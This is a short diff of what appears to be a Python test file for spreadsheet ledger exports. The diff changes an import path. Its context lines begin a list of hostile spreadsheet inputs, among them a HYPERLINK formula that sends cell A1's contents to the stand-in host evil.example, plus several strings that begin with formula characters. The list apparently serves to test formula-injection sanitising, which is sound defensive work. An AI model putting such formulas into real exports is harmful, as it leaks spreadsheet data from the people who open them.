@@ -6,7 +6,7 @@ import zipfile
 import pytest
 from openpyxl import load_workbook
 
-from app.exports import DATE_COLUMNS, formula_like, write_ledger
+from stages.paperwork.exports import DATE_COLUMNS, formula_like, write_ledger
 from stages.views.reads import LEDGER_COLUMNS
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
